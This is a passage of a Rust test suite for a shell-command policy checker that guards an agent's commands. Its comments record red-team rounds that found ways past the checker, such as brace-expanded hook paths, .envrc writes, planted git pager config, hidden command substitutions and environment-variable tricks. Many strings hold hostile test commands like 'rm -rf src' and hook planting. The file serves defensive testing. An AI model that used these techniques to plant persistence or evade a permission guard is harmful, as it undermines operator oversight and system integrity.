        "vim -c '!touch pwned' -c q x",
        "vi +'!touch pwned' x",
        "ex -s x < script",
        "view x",
        "nvim --headless -c q",
        "emacs --batch --eval '(shell-command \"id\")'",
        "nano x",
        "ed x < script",
        "vim -es -S /tmp/e/s.vim",
    ]);
    f.all(
        Action::Allow,
        &[
            "openssl version",
            "openssl version -a",
            "openssl x509 -in c.pem -noout -text",
            "openssl dgst -sha256 x",
            "openssl rand -hex 16",
            "openssl rand -out key.bin 32",
            "openssl req -in r.pem -noout -text -pubkey",
            "openssl genpkey -algorithm ed25519 -out build/k.pem",
            "ar t a.a",
            "ar rcs build/libx.a x.o",
            "ar -rcs libx.a x.o",
            "ranlib libx.a",
            "sqlite3 -safe x.db 'select * from t'",
            "sqlite3 -safe -readonly x.db .tables",
            "sqlite3 --version",
            "vim --version",
        ],
    );
    // A rule naming the editor allows what it reads; one naming sqlite3 does not allow it
    // without `-safe` (no rule names the commands it reads).
    let named = fixture(
        "[shell]\ndefault = \"ask\"\n[[shell.rules]]\npattern = \"vim\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"sqlite3\"\naction = \"allow\"\n",
        "deny",
    );
    named.all(
        Action::Allow,
        &["vim x.txt", "sqlite3 -safe x.db 'select 1'"],
    );
    named.never_allowed(&["sqlite3 x.db 'select 1'"]);
    // The real programs.
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(ws.join("x.o"), "x\n").unwrap();
    for (line, made) in [
        ("openssl rand -out=.envrc 4", ".envrc"),
        ("ar rcs .git/hooks/pre-commit x.o", ".git/hooks/pre-commit"),
        (
            "sqlite3 x.db \"select writefile('.mcp.json', 'x')\"",
            ".mcp.json",
        ),
    ] {
        assert!(!bash_creates_pwned(ws, line, &[]));
        assert!(
            ws.join(made).exists(),
            "{line}: the real program did not make {made}"
        );
    }
    for line in [
        "sqlite3 x.db '.shell touch pwned'",
        "echo '.system touch pwned' | sqlite3 x.db",
        "vim -es -c '!touch pwned' -c 'qa!'",
        "printf '!touch pwned\\nqa!\\n' | vim -es",
    ] {
        assert!(
            bash_creates_pwned(ws, line, &[]),
            "{line}: the real program did not run the command"
        );
    }
    assert!(
        !bash_creates_pwned(ws, "sqlite3 -safe x.db '.shell touch pwned'", &[]),
        "sqlite3 -safe ran .shell"
    );
}

/// Round 6. What the analysis models of a program's options its environment can change: an
/// inherited `SIMPLE_BACKUP_SUFFIX=rc` makes `cp -b x .env` write `.envrc` (the real cp), and
/// `TAR_OPTIONS`, `GZIP`, `XZ_OPT`, `GIT_CONFIG_COUNT`/`KEY`/`VALUE`, `GIT_EXTERNAL_DIFF`,
/// `LESSOPEN`, … give options or commands the line does not show. The command inherits only
/// the scrubbed environment (the built-in list, `LC_*`, and the policy's `sandbox.env`), so
/// such a name reaches it only through `sandbox.env`; when it does, the line asks. The same
/// names assigned in the line ask already (any variable not known to be inert).
#[test]
fn an_inherited_variable_that_changes_a_modelled_program_asks() {
    let f = allow_all();
    let decide = |line: &str, names: &[&str]| {
        let mut all = vec!["PATH", "HOME", "USER", "LANG", "TERM", "TMPDIR"];
        all.extend_from_slice(names);
        let inherited = Inherited::exactly(all);
        assess(&parse_in(line, &inherited), &f.rules, &f.cx).decision
    };
    for (line, names) in [
        ("cp -b x .env", &["SIMPLE_BACKUP_SUFFIX"][..]),
        ("cp --backup=t x .env", &["VERSION_CONTROL"]),
        ("tar -tf a.tar", &["TAR_OPTIONS"]),
        ("gzip x", &["GZIP"]),
        ("xz x", &["XZ_OPT"]),
        ("xz x", &["XZ_DEFAULTS"]),
        ("bzip2 x", &["BZIP2"]),
        ("zip -r a.zip x", &["ZIPOPT"]),
        ("unzip -l a.zip", &["UNZIP"]),
        (
            "git log",
            &["GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0"],
        ),
        ("git diff", &["GIT_EXTERNAL_DIFF"]),
        ("git status", &["GIT_CONFIG_PARAMETERS"]),
        ("git fetch", &["GIT_SSH_COMMAND"]),
        ("git status", &["GIT_DIR"]),
        ("less x", &["LESSOPEN"]),
        ("man ls", &["MANPAGER"]),
        ("rsync a b", &["RSYNC_RSH"]),
        ("pytest", &["PYTEST_ADDOPTS"]),
        ("make", &["MAKEFLAGS"]),
        ("gcc x.c", &["GCC_EXEC_PREFIX"]),
        ("gcc x.c", &["COMPILER_PATH"]),
        ("openssl version", &["OPENSSL_CONF"]),
        ("ls", &["BASH_ENV"]),
        ("ls", &["ENV"]),
        ("ls", &["BASH_FUNC_ls%%"]),
        ("ls", &["PROMPT_COMMAND"]),
    ] {
        let d = decide(line, names);
        assert_ne!(
            d.action,
            Action::Allow,
            "{line} with {names:?} inherited: allowed ({})",
            d.reason
        );
        assert_eq!(decide(line, &[]).action, Action::Allow, "{line} alone");
    }
    // Names the shipped profiles pass that change no modelled option: no ask.
    for names in [
        &["CARGO_HOME", "RUSTUP_HOME", "GOPATH", "npm_config_cache"][..],
        &[
            "SSH_AUTH_SOCK",
            "GIT_AUTHOR_NAME",
            "GIT_AUTHOR_EMAIL",
            "GIT_COMMITTER_NAME",
            "GIT_COMMITTER_EMAIL",
        ],
    ] {
        let d = decide("git log", names);
        assert_eq!(d.action, Action::Allow, "{names:?}: {}", d.reason);
    }
    // Assigned in the line: asked already.
    f.never_allowed(&[
        "SIMPLE_BACKUP_SUFFIX=rc cp -b x .env",
        "VERSION_CONTROL=numbered cp -b x .env",
        "TAR_OPTIONS=--to-command=id tar -xf a.tar",
        "GZIP='-S rc' gzip .env",
        "XZ_OPT='--suffix=rc' xz .env",
        "export SIMPLE_BACKUP_SUFFIX=rc; cp -b x .env",
        "env SIMPLE_BACKUP_SUFFIX=rc cp -b x .env",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git log",
        "GIT_EXTERNAL_DIFF=./x git diff",
        "GIT_SSH_COMMAND=./x git fetch",
        "BASH_ENV=./x bash -c ls",
        "ENV=./x sh -c ls",
        "LD_PRELOAD=./x.so ls",
    ]);
    // The real cp.
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::write(ws.join("x"), "x\n").unwrap();
    std::fs::write(ws.join(".env"), "y\n").unwrap();
    assert!(!bash_creates_pwned(
        ws,
        "cp -b x .env",
        &[("SIMPLE_BACKUP_SUFFIX", "rc")]
    ));
    assert!(
        ws.join(".envrc").exists(),
        "the real cp did not write .envrc"
    );
}

/// The rules an agent's operator typically writes: each program named, nothing else.
const TYPICAL_RULES: &str = "[shell]\ndefault = \"ask\"\n[[shell.rules]]\npattern = \"git\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"cargo\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"npm\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"python\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"ls\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"cat\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"grep\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"sed\"\naction = \"allow\"\n[[shell.rules]]\npattern = \"find\"\naction = \"allow\"\n";

/// Round 6, red team under the typical rules. git's own commands that write a file they name
/// (`mailinfo MSG PATCH`, `merge-file CURRENT …`, `credential-store --file`, `fast-import
/// --export-marks=`, `index-pack -o`), copy hooks into a new repository (`init --template=`),
/// install a scheduler entry that runs git for the operator (`maintenance start`) or run
/// servers (`daemon --access-hook=CMD`, `instaweb`); npm commands that run what they are given
/// (`exec`, `x`, `explore`, `init PKG`, `--browser=`, `--editor=`) or write `~/.npmrc` (`npm
/// config set script-shell=…`); `cargo install` into `~/.cargo/bin`, on the operator's PATH;
/// python running a script from outside the roots or from its input. Each was allowed.
#[test]
fn a_typical_policys_programs_do_not_write_or_run_what_their_rule_does_not_name() {
    let f = fixture(TYPICAL_RULES, "deny");
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "git mailinfo .envrc patch < mail",
        "git merge-file .envrc base other",
        "git merge-file -L a -L b -L c .envrc base other",
        "git credential-store --file .envrc store",
        "git credential-store --fi=.envrc store",
        "git credential-store store",
        "git fast-import --export-marks=.envrc",
        "git fast-import --export-pack-edges=.git/hooks/pre-commit",
        "git index-pack -o .envrc x.pack",
        "git init --template=/tmp/e sub",
        "git init --templ=t sub",
        "git init --t=t sub",
        "git init --b ev",
        "git init --se=/tmp/e/g sub",
        "git credential-store --f=.envrc erase",
        "git bugreport --o=/tmp/e",
        "git init --separate-git-dir=/tmp/e/g sub",
        "git maintenance start",
        "git maintenance register",
        "git daemon --access-hook=/tmp/e/x",
        "git instaweb",
        "git receive-pack .",
        "npm exec -- touch pwned",
        "npm x touch pwned",
        "npm explore x -- touch pwned",
        "npm --loglevel silent exec touch pwned",
        "npm init x",
        "npm create x",
        "npm docs --browser=/tmp/e/x x",
        "npm edit x --editor=/tmp/e/x",
        "npm config set script-shell /tmp/e/sh",
        "npm set script-shell=/tmp/e/sh",
        "cargo install --path .",
        "cargo install x",
        "cargo install --path . --root /tmp/e",
        "cargo install --path /tmp/e --root inst",
        "python /tmp/e/x.py",
        "python < /tmp/e/x.py",
        "cat /tmp/e/x.py | python",
        "python - < x",
        "python -i x.py",
        "python --check-hash-based-pycs always /tmp/e/x.py",
        "git for-each-repo --config=maintenance.repo clean -fdx",
        "git web--browse --browser=/tmp/e/x http://index.example.org/",
        "git bugreport -o /tmp/e",
        "cargo rustc -- -C linker=/tmp/e/ld",
        "cargo rustc --release -- -Clink-arg=-Wl,-plugin,/tmp/e/p.so",
        "cargo rustdoc -- --html-in-header /tmp/e/x",
        "cargo +/tmp/e build",
        "cargo +./tc build",
        "cargo +nightly install x",
        "cargo login",
        "cargo logout",
        "npm link",
        "npm link /tmp/e/pkg",
        "npm install /tmp/e/pkg",
        "npm i file:/tmp/e/pkg",
        "npm login",
        // npm takes any unique abbreviation of a command (`npm exe` ran exec with npm 11).
        "npm exe -- touch pwned",
        "npm explor x -- touch pwned",
        "npm lin",
        "npm confi set script-shell /tmp/e/sh",
        "npm logi",
        "npm cre x",
        "npm isntal /tmp/e/pkg",
        "git init --bare ev && git config --file ev/config core.pager id",
        "git init --bare ev && git config -f ev/config.worktree core.pager id",
    ]);
    f.all(
        Action::Allow,
        &[
            "git config --file settings.ini a.b c",
            "git mailinfo msg patch < mail",
            "git merge-file -p .envrc base other",
            "git merge-file a.txt base other",
            "git credential-store get",
            "git credential-store --file .envrc get",
            "git fast-import --export-marks=marks.txt",
            "git init sub",
            "git init --template= sub",
            "git maintenance run",
            "npm test",
            "npm run x",
            "npm init -y",
            "npm config get registry",
            "cargo build",
            "cargo test install",
            "cargo install --path . --root inst",
            "python x.py",
            "python --version",
            "git bugreport",
            "cargo rustc -- -C opt-level=3",
            "cargo +nightly build",
            "cargo test login",
            "npm i ./pkgs/a",
            "npm install",
        ],
    );
    // The real git.
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::write(
        ws.join("mail"),
        "From: a <a@example.org>\nSubject: x\n\necho planted\n",
    )
    .unwrap();
    for (file, text) in [("base", "a\n"), ("other", "a\nb\n"), (".envrc", "a\n")] {
        std::fs::write(ws.join(file), text).unwrap();
    }
    assert!(!bash_creates_pwned(
        ws,
        "git merge-file .envrc base other",
        &[]
    ));
    let merged = std::fs::read_to_string(ws.join(".envrc")).unwrap();
    assert!(merged.contains('b'), "the real git merge-file left .envrc");
    std::fs::remove_file(ws.join(".envrc")).unwrap();
    assert!(!bash_creates_pwned(
        ws,
        "git mailinfo .envrc patch < mail",
        &[]
    ));
    assert!(
        ws.join(".envrc").exists(),
        "the real git mailinfo did not write .envrc"
    );
}

/// Round 6. A line that makes a repository and then writes its configuration: `git init --bare
/// ev && cat x > ev/config` (or a repository made by hand, `mkdir -p ev/objects ev/refs; echo
/// … > ev/HEAD`, `cat h > sub/HEAD && cat x > sub/config`) was allowed, because when the line is read `ev` is no repository and
/// `ev/config` is not the surface; real git then reads it (`git -C ev config core.pager`
/// prints the planted value, and git runs the pager at the operator's next `git log` there). A
/// directory the line may make a repository counts as one: one that does not exist yet, one
/// that already holds part of a repository, or one whose `HEAD` the line writes; `git init
/// --bare` (which makes one of a directory that exists) asks.
#[test]
fn a_repository_the_line_makes_has_the_surface_of_one() {
    let f = fixture(TYPICAL_RULES, "deny");
    std::fs::create_dir_all(f.ws.join("sub")).unwrap();
    std::fs::create_dir_all(f.ws.join("half/objects")).unwrap();
    f.never_allowed(&[
        "git init --bare ev && cat x > ev/config",
        "git init --bare ev && cat x > ev/hooks/post-update",
        "git init --bare ev && sed -n 'w ev/config' x",
        "git init --bare ev && cat x > ev/commondir",
        "git init --bare sub",
        "git init --bare",
        "git init --separate-git-dir=sub/g ev",
        "cat h > sub/HEAD && cat x > sub/config",
        "cat x > sub/config; cat h > sub/HEAD",
        "cat x > half/config",
    ]);
    f.all(
        Action::Allow,
        &[
            "cat x > sub/config",
            "cat x > build/config.yaml",
            "cat x > out/log.txt",
            "git init ev",
        ],
    );
    // A repository moved or linked into place by the line: `ev` does not exist when the
    // line is read, so it may be one.
    allow_all().never_allowed(&[
        "git init -q ev2 && mv ev2/.git ev && cat x > ev/config",
        "ln -s ev2/.git ev && cat x > ev/config",
        "cat x > new/hooks/pre-commit",
    ]);
    // The real git takes a new bare repository's `config` for its configuration.
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::write(ws.join("x"), "[core]\n\tpager = touch pwned\n").unwrap();
    assert!(!bash_creates_pwned(
        ws,
        "git init -q --bare ev && cat x > ev/config",
        &[]
    ));
    let out = std::process::Command::new("git")
        .args(["-C", "ev", "config", "core.pager"])
        .current_dir(ws)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", ws)
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "touch pwned");
}

/// Round 6. Other spellings of the programs above went unexamined: a compiler run through a
/// cache (`ccache gcc -o .envrc x.c`, `sccache`, `distcc`), `ar` as `gcc-ar`, `llvm-ar` or a
/// cross toolchain's, `gcc-ranlib`, and Debian's names for vim and the default editor
/// (`vim.basic`, `editor`, `sensible-editor`).
#[test]
fn other_spellings_of_compilers_archivers_and_editors_are_judged() {
    let f = allow_all();
    f.never_allowed(&[
        "ccache gcc -o .envrc x.c",
        "ccache gcc -B/tmp/e x.c",
        "sccache rustc -C linker=/tmp/e/x x.rs",
        "distcc gcc -o .envrc x.c",
        "icecc gcc -o .envrc x.c",
        "gcc-ar rcs .envrc x.o",
        "llvm-ar rcs .envrc x.o",
        "x86_64-linux-gnu-gcc-ar-12 rcs .envrc x.o",
        "gcc-ranlib .envrc",
        "llvm-ranlib .envrc",
        "vim.basic -c '!id' -c q",
        "vim.tiny x",
        "editor x",
        "sensible-editor x",
    ]);
    f.all(
        Action::Allow,
        &[
            "ccache -s",
            "ccache gcc -c x.c",
            "llvm-ar t a.a",
            "gcc-ar t a.a",
        ],
    );
    // A cache runs its compiler as it is: a rule on the compiler decides it.
    review().never_allowed(&["ccache gcc -c x.c", "distcc gcc -c x.c"]);
}

/// Round 6. A link the line makes to the persistence surface, then writes through: `ln -s
/// .git/hooks/pre-commit p && cat x > p` (the real bash's `>` follows the link and writes the
/// hook), `sed -i --follow-symlinks`, a hard link (`ln .git/config c`), `cp -s`. The write of
/// `p` was judged as `p`, which does not lead anywhere when the line is read. A link to the
/// surface asks; links elsewhere stay allowed.
#[test]
fn a_link_the_line_makes_to_the_surface_asks() {
    let f = allow_all();
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "ln -s .git/hooks/pre-commit p && cat x > p",
        "ln -sf ../.git/hooks/pre-commit sub/p && cat x > sub/p",
        "ln -s .git/config c && sed -i --follow-symlinks s/a/b/ c",
        "ln -s ~/.bashrc b && cat x >> b",
        "ln -s \"$t\" x && cat y > x",
        "ln -st sub .git/hooks/pre-commit",
        "cp -s .claude/settings.json s && cat x > s",
        "cp --symbolic-link .envrc e && cat x > e",
    ]);
    f.all(
        Action::Allow,
        &[
            "ln -s /usr/bin/python3 py",
            "ln -s ../lib/x.so sub/x.so",
            "ln -sf build/app app",
            "cp -l a b",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(ws.join("x"), "#!/bin/sh\n").unwrap();
    assert!(!bash_creates_pwned(
        ws,
        "ln -s .git/hooks/pre-commit p && cat x > p",
        &[]
    ));
    assert!(
        ws.join(".git/hooks/pre-commit").is_file(),
        "the real bash did not write the hook through the link"
    );
}

// ---- round 7 (issue 21's red team) --------------------------------------------------------

/// Round 7. bash brace-expands a redirection's target, and a sequence of one (`{s..s}`) leaves
/// one word, which it opens: `cat x > .git/hook{s..s}/pre-commit` writes the hook. The target
/// was judged as the text `.git/hook{s..s}/pre-commit`, a name inside the roots that is no
/// hook, and allowed.
#[test]
fn a_brace_expanded_redirection_target_is_not_taken_as_written() {
    let f = fixture(TYPICAL_RULES, "deny");
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "cat x > .git/hook{s..s}/pre-commit",
        "cat x > .envr{c..c}",
        "cat x >> .env{r..r}c",
        "cat x 2> .git/hooks/pre-commi{t..t}",
        "cat x &> .clau{d..d}e/settings.json",
    ]);
    let all = allow_all();
    std::fs::create_dir_all(all.ws.join(".git/hooks")).unwrap();
    all.never_allowed(&["echo x > .envr{c..c}", "ls >| .git/hook{s..s}/post-merge"]);
    // A target without braces stays as it was.
    f.all(
        Action::Allow,
        &["cat x > out.txt", "cat x > 'a b'", "ls > sub/list"],
    );
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::write(ws.join("x"), "#!/bin/sh\n").unwrap();
    assert!(!bash_creates_pwned(
        ws,
        "cat x > .git/hook{s..s}/pre-commit",
        &[]
    ));
    assert!(
        ws.join(".git/hooks/pre-commit").is_file(),
        "the real bash did not expand the target to the hook"
    );
}

/// Round 7. `compgen -W WORDLIST` expands each word of its list as bash expands a command's
/// words, command substitutions included: `compgen -W '$(rm -rf src)' x` runs `rm`. Only
/// `-C` and `-F` were taken as running code, so the line was allowed where the default allows,
/// past a `rm` deny rule. Only the options known to list names (`-A`, the action letters,
/// `-G`, `-P`, `-S`, `-X`, `-o`, `-p`, `-r`) pass now, for `complete` and `compopt` too.
#[test]
fn a_completion_word_list_is_code() {
    let f = allow_all();
    f.never_allowed(&[
        "compgen -W '$(rm -rf src)' x",
        "compgen -W \"\\$(touch pwned)\" x",
        "compgen -aW '`touch pwned`' x",
        "compgen -o default -W '$(touch pwned)' x",
        "complete -W '$(touch pwned)' ls",
        "complete -C 'touch pwned' ls",
        "complete -F f ls",
        "compgen -V v -W x",
        "compgen -Z x",
    ]);
    f.all(
        Action::Allow,
        &[
            "compgen -c",
            "compgen -A function",
            "compgen -b",
            "compgen -G '*.rs'",
            "compgen -d -P pre -S suf -X '*.o' sr",
            "complete -p",
            "compgen -abck",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    assert!(bash_creates_pwned(
        dir.path(),
        "compgen -W '$(touch pwned)' x",
        &[]
    ));
}

/// Round 7. `history -w FILE` and `history -a FILE` write the shell's history list to FILE,
/// and `history -s LINE` puts any text in that list first: the real bash wrote `touch pwned`
/// into `.envrc` (direnv runs it). Without FILE they write `$HISTFILE` (an earlier call's or
/// the line's value) or `~/.history`. `history` was allowed with any arguments where the
/// default allows.
#[test]
fn history_writes_the_file_it_names() {
    let f = allow_all();
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "history -s 'touch pwned'; history -w .envrc",
        "history -a .git/hooks/pre-commit",
        "history -wa .envrc",
        "history -w -- .envrc",
        "HISTFILE=.envrc; history -s x; history -a",
        "history -w",
        "history -w /tmp/e",
        "history -w \"$f\"",
        "history -Z",
    ]);
    f.all(
        Action::Allow,
        &[
            "history",
            "history 5",
            "history -c",
            "history -d 1",
            "history -s x",
            "history -p x",
            "history -w out.txt",
            "history -r in.txt",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    assert!(!bash_creates_pwned(
        ws,
        "history -s 'touch pwned'; history -w .envrc",
        &[]
    ));
    assert!(
        bash_creates_pwned(ws, "bash .envrc", &[]),
        "the real bash did not write the line to .envrc"
    );
}

/// Round 7. `script` writes what its command prints, framed by two lines of its own, to its
/// operand and to the files of `-O`/`--log-out`, `-I`, `-B`, `-T` and `-t`: `script -qc 'cat x'
/// .envrc` made an `.envrc` whose first line fails and whose next lines (x's) direnv runs. Only
/// the command was judged.
#[test]
fn script_writes_its_typescript_and_logs() {
    let f = allow_all();
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "script -qc 'cat x' .envrc",
        "script --command='cat x' .git/hooks/pre-commit",
        "script -c 'cat x' -O .envrc",
        "script --log-out=.envrc -c 'cat x'",
        "script --log-o .envrc -c ls",
        "script -I .envrc -c ls",
        "script -B .envrc -c ls",
        "script -T .envrc -c ls",
        "script -t.envrc -c ls",
        "script --timing=.envrc -c ls",
        "script -c ls /tmp/e/log",
    ]);
    f.all(
        Action::Allow,
        &[
            "script -qc 'cat x' /dev/null",
            "script -c ls log.txt",
            "script -qc ls",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    // The terminal's `\r` ends each line: a comment keeps it out of the name.
    std::fs::write(ws.join("x"), "touch pwned #\n").unwrap();
    assert!(!bash_creates_pwned(ws, "script -qc 'cat x' .envrc", &[]));
    assert!(
        bash_creates_pwned(ws, "bash .envrc", &[]),
        "the real script did not write x's line into .envrc"
    );
}

/// Round 7. git's revision options take `--output FILE` in every command that reads them, not
/// only the diff family the table listed: the real git 2.47 wrote the file for `rev-list`,
/// `shortlog`, `reflog`, `stash show`/`list` (`git stash show -p --output=.envrc` writes the
/// stash's diff, whose context lines a shell runs) and `fast-export --export-marks`.
/// `git cat-file --textconv`/`--filters` and `git grep --textconv` run the configured drivers,
/// as `git log --textconv` does. All were allowed under a `git` rule.
#[test]
fn every_git_command_that_takes_output_writes_it() {
    let f = fixture(TYPICAL_RULES, "deny");
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "git rev-list --output .envrc HEAD",
        "git rev-list --output=.git/hooks/pre-commit HEAD",
        "git shortlog --output=.envrc HEAD",
        "git reflog --output=.envrc",
        "git reflog show --output .envrc",
        "git stash show -p --output=.envrc",
        "git stash list --output=.envrc",
        "git log -g --output=.envrc",
        "git fast-export --export-marks=.envrc HEAD",
        "git fast-export --export-marks .envrc HEAD",
        "git rev-list --output=/tmp/e/x HEAD",
        "git cat-file --textconv HEAD:f",
        "git cat-file --filters HEAD:f",
        "git cat-file --batch --filters",
        "git grep --textconv x",
    ]);
    f.all(
        Action::Allow,
        &[
            "git rev-list --count HEAD",
            "git rev-list --output out.txt HEAD",
            "git shortlog -sn",
            "git reflog",
            "git stash list",
            "git stash show -p",
            "git cat-file -p HEAD",
            "git grep -n x",
            "git log -- --output=.envrc",
        ],
    );
    // The real git writes each.
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    let git = |args: &[&str]| {
        std::process::Command::new("git")
            .args(args)
            .current_dir(ws)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", ws)
            .output()
            .unwrap()
    };
    git(&["init", "-q"]);
    std::fs::write(ws.join("f"), "a\n").unwrap();
    git(&["add", "f"]);
    git(&[
        "-c",
        "user.name=a",
        "-c",
        "user.email=a@b",
        "commit",
        "-qm",
        "1",
    ]);
    for (args, made) in [
        (&["rev-list", "--output", "o1", "HEAD"][..], "o1"),
        (&["shortlog", "--output=o2", "HEAD"], "o2"),
        (&["reflog", "--output=o3"], "o3"),
        (&["fast-export", "--export-marks=o4", "HEAD"], "o4"),
    ] {
        git(args);
        assert!(ws.join(made).is_file(), "git {args:?} did not write {made}");
    }
}

/// Round 7. npm's option parser (nopt) reads a one-letter shorthand written with two dashes as
/// the shorthand (`--C DIR` is `--prefix DIR`) and splits a cluster of single letters (`-sC
/// DIR` is `-s -C DIR`): the real npm 11 ran the `test` script of the package at DIR, outside
/// the roots, for `npm test --C DIR`, `--C=DIR`, `-sC DIR` and `-dC DIR`. Only `-C…` at the
/// start of a word and long names of two letters or more were matched.
#[test]
fn npm_shorthands_in_every_spelling_are_judged() {
    let f = fixture(TYPICAL_RULES, "deny");
    f.never_allowed(&[
        "npm test --C /tmp/e",
        "npm test --C=/tmp/e",
        "npm test -sC /tmp/e",
        "npm test -dC /tmp/e",
        "npm run build -qC /tmp/e",
        "npm i --g x",
        "npm i -Dg x",
    ]);
    f.all(
        Action::Allow,
        &[
            "npm test",
            "npm test -s",
            "npm run build -d",
            "npm ci",
            "npm i -D x",
            "npm test -- -C x",
        ],
    );
}

/// Round 7. More programs that write the files they name, which a default that allows let
/// through: `link x .envrc` (coreutils: a hard link, x's content under the surface name),
/// `shred` (overwrites its operands), `fallocate` (creates its operand) and `tar
/// --volno-file=F` (the real tar 1.34 wrote F with `-t` too).
#[test]
fn more_programs_that_write_the_files_they_name_are_judged() {
    let f = allow_all();
    std::fs::create_dir_all(f.ws.join(".git/hooks")).unwrap();
    f.never_allowed(&[
        "link x .envrc",
        "link x .git/hooks/pre-commit",
        "link x /tmp/e/x",
        "shred .git/config",
        "shred -n1 -- .envrc",
        "shred --remove .envrc",
        "shred -u --remove=wipe .envrc",
        "fallocate -l 10 .envrc",
        "fallocate --length=1 .git/hooks/pre-commit",
        "tar -tf a.tar --volno-file=.envrc",
        "tar -tf a.tar --volno-file .git/config",
        "tar -tf a.tar --volno=.envrc",
    ]);
    f.all(
        Action::Allow,
        &[
            "link x y",
            "shred -n1 scratch.bin",
            "fallocate -l 1M disk.img",
            "tar -tf a.tar",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path();
    std::fs::write(ws.join("x"), "touch pwned\n").unwrap();
    assert!(!bash_creates_pwned(ws, "link x .envrc", &[]));
    assert!(
        bash_creates_pwned(ws, "bash .envrc", &[]),
        "the real link did not make .envrc"
    );
}

/// Round 7. Inside a double-quoted `${x:-WORD}` (also `-`, `:+`, `+`, `:=`, `=`), bash takes
/// single quotes as plain characters and expands what is between them: `echo "${x:-'$(rm -rf
/// /)'}"` runs `rm`. The parser read `'…'` as a quoted string and never saw the substitution,
/// so a `rm` deny rule did not apply, and a write in it (`cat "${x:-'$(cat y >
/// .git/hooks/pre-commit)'}"`) was allowed under a `cat` rule.
#[test]
fn single_quotes_inside_a_double_quoted_expansion_do_not_quote() {
    let f = allow_all();
    f.all(
        Action::Deny,
        &[
            "echo \"${x:-'$(rm -rf src)'}\"",
            "x=1; echo \"${x:+'$(rm -rf src)'}\"",
            "echo \"${x-'`rm -rf src`'}\"",
            "echo \"${x:='$(rm x)'}\"",
            "echo \"a${x:-'b$(rm x)c'}d\"",
        ],
    );
    let typical = fixture(TYPICAL_RULES, "deny");
    std::fs::create_dir_all(typical.ws.join(".git/hooks")).unwrap();
    typical.never_allowed(&[
        "cat \"${x:-'$(cat y > .git/hooks/pre-commit)'}\"",
        "cat \"${x:-'$(ls)'}\"",
    ]);
    // Single quotes outside double quotes quote; inside a substitution they quote again.
    typical.all(
        Action::Allow,
        &[
            "cat ${x:-'$(rm x)'}",
            "cat \"$(ls ${x:-'$(rm x)'})\"",
            "cat \"${x:-'a b'}\"",
            "cat \"${x%'.txt'}\"",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    assert!(bash_creates_pwned(
        dir.path(),
        "echo \"${x:-'$(touch pwned)'}\"",
        &[]
    ));
    assert!(!bash_creates_pwned(
        dir.path(),
        "echo ${x:-'$(touch pwned)'}",
        &[]
    ));
}

/// Round 7. `declare -a NAME='(…)'` (also `typeset`, `readonly -a`, `declare -A`, and a plain
/// `declare NAME='(…)'` when NAME is already an array, which an earlier call may have made)
/// evaluates the quoted text as a compound assignment: its words are expanded and its
/// subscripts evaluated, so `declare -a a='($(rm -rf src))'` runs `rm` (the real bash ran the
/// substitution in each form). The value was taken as a quoted string.
#[test]
fn a_quoted_compound_assignment_to_a_declaration_is_code() {
    let f = allow_all();
    f.all(
        Action::Deny,
        &[
            "declare -a a='($(rm -rf src))'",
            "typeset -a a='([$(rm x)]=1)'",
            "readonly -a a='($(rm x))'",
            "declare -ga a='($(rm x))'",
            "declare -A a='([$(rm x)]=1)'",
            "a=(); declare a='($(rm x))'",
            "declare -a a=\"(\\$(rm x))\"",
        ],
    );
    f.never_allowed(&[
        "declare -a a='([i]=1)'",
        "declare -a a='(`touch pwned`)'",
        "declare a='($x)'",
        // After expansion: `v='($(cmd))'` from an earlier call or the line.
        "v='($(touch pwned))'; declare -a a=\"$v\"",
        "declare -a a=$v",
        "a=(); declare a=\"$(cat f)\"",
        "typeset a=\"($y)\"",
        "declare a=`cat f`",
        // `local` when this function made the name a local array before.
        "f() { local -a x; local x=\"$v\"; }; f",
        "f() { local x=(); local x=\"$(cat y)\"; }; f",
    ]);
    f.all(
        Action::Allow,
        &[
            "declare -a a=(1 2 3)",
            "declare -a a='(1 2 3)'",
            "declare x='(a b)'",
            "declare -a a=([0]=x [1]=y)",
            "declare x=\"a$y\"",
            "f() { local x=\"$1\"; echo \"$x\"; }; f a",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    for line in [
        "declare -a a='($(touch pwned))'",
        "v='($(touch pwned))'; declare -a a=\"$v\"",
